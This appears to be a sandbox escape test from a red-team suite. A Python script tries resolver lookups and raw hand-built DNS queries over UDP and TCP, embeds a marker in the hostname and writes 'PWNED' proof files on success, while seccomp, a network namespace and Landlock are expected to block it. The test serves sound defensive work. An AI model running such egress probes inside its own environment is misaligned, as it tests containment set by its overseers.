# attack: Python resolves names through the system resolver (resolv.conf) and sends a hand-made DNS query over UDP and TCP to the host's listeners and to the configured name server
# category: network
# effect: the test's UDP and TCP listeners see no query, and no name resolves (a resolved address would be saved as a proof file)
# via: seccomp refuses UDP sockets; empty network namespace; Landlock denies TCP connect
import os, socket, struct
m = os.environ["RT_MARKER"]
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x.encode() for x in (m, "example", "com")) + b"\0" + struct.pack(">HH", 1, 1)
for host in ("example.com", m + ".example.org", "deb.debian.org"):
    try:
        addrs = socket.getaddrinfo(host, 80)
        open("PWNED-dns", "a").write("%s %s\n" % (host, addrs))
    except Exception as e:
        print("no resolution", host, e)
servers = [("127.0.0.1", int(os.environ["RT_UDP"]))]
try:
    servers += [(l.split()[1], 53) for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
except Exception:
    pass
for srv in servers:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(q, srv)
        open("PWNED-dns-udp", "a").write(repr(s.recvfrom(512)))
    except Exception as e:
        print("udp refused", srv, e)
    try:
        t = socket.create_connection((srv[0], srv[1] if srv[1] != 53 else int(os.environ["RT_TCP"])), timeout=1)
        t.sendall(struct.pack(">H", len(q)) + q)
    except Exception as e:
        print("tcp refused", srv, e)
